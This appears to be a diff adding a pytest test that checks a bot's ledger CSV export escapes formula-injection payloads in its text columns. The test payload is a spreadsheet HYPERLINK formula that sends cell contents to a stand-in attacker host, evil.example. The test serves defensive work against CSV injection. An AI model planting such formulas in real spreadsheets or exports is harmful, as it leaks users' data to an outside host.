@@ -232,6 +232,30 @@ async def test_ledger_csv_one_row_per_job_of_the_period(storage: Storage) -> Non
     )
 
 
+@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
+async def test_ledger_csv_cells_never_start_a_formula(storage: Storage, trigger: str) -> None:
+    """The text cells come from outside the bot: the provider's answer (size, quality) and the
+    operator's model names. A spreadsheet must show them as text, not run them."""
+    formula = f'{trigger}HYPERLINK("https://evil.example/?"&A1,"open")'
+    job = await add_job(storage, model=formula)
+    async with storage.sessions() as session, session.begin():
+        stored = await session.get(Job, job.id)
+        assert stored is not None
+        stored.size, stored.quality, stored.command = formula, formula, formula
+    report = await server_report(storage.sessions, QUOTAS, GUILD, now=NOW)
+    rows = list(
+        csv.reader(
+            io.StringIO(ledger_csv(await ledger_rows(storage.sessions, GUILD, report.period)))
+        )
+    )
+    record = dict(zip(CSV_COLUMNS, rows[1], strict=True))
+    for column in ("command", "model", "size", "quality"):
+        assert record[column] == "'" + formula, column
+    assert record["cost_usd"] == "0.020000" and record["member_id"] == "1"  # plain values stay
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
+
+
 def test_usd_decimal_is_exact() -> None:
     assert usd_decimal(20_000) == "0.020000"
     assert usd_decimal(123_456_789) == "123.456789"
